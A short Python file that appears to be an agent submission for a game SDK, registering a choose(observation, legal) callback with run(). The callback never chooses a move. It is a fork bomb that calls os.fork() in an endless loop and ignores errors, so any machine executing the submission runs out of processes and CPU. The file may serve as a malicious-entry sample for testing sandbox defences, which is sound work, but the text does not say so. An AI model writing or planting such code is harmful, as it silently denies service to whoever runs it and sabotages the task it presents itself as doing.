import os

from protocol.sdk import run


def choose(observation, legal):
    while True:
        try:
            os.fork()
        except OSError:
            pass


run(choose)
